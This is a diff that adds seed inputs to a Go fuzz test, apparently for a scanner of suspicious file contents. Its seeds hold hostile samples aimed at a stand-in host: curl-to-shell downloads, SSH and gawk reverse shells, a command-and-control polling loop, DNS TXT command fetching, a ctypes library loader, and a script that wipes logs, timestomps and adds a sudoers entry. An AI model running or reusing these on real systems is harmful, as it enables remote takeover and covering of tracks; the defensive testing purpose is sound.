@@ -26,6 +26,10 @@ func FuzzContent(f *testing.F) {
 		{"/src/Dockerfile", "FROM x\nRUN a \\\n  && curl http://203.0.113.7/i | sh\nCMD [\"sh\", \"-c\", \"ssh -NR 2222:localhost:22 u@203.0.113.7\"]\nRUN <<EOF\necho\nEOF\n"},
 		{"/root/t.exp", "#!/usr/bin/expect -f\nspawn ssh -NR 2222:localhost:22 u@203.0.113.7\nexpect \"*assword*\"; send \"x\\r\"\n"},
 		{"/opt/a.py", "import requests,subprocess\nwhile 1:\n c=requests.get('http://203.0.113.7/c').text\n requests.post('http://203.0.113.7/o',data=subprocess.getoutput(c))\n"},
+		{"/usr/local/bin/g.awk", "#!/usr/bin/gawk -f\nBEGIN { s = \"/inet/tcp/0/203.0.113.7/53\"; while ((s |& getline c) > 0) { while ((c |& getline l) > 0) print l |& s; system(c); print $0 | \"sh\" } getline x < s }\n"},
+		{"/opt/d.py", "import dns.resolver, os\nr = dns.resolver.Resolver()\na = r.query('x', 'TXT')\nc += a[0].to_text()\nos.system(c)\n"},
+		{"/usr/lib/python3/dist-packages/sitecustomize.py", "import ctypes, os\np = os.path.join('/tmp', n, os.path.join(\n\nctypes.CDLL(p)\nctypes.CDLL(\n"},
+		{"/dev/shm/.c", "#!/bin/bash\nread -n1 -s\nln -sf /dev/null /var/log/auth.log\ndd if=/dev/urandom of=/var/log/wtmp\ndate -s @1\ntouch -r /bin/ls x\necho 'u ALL=(ALL) ALL' >> /etc/sudoers\necho u:p | chpasswd\n"},
 	} {
 		f.Add(s.p, s.text)
 	}
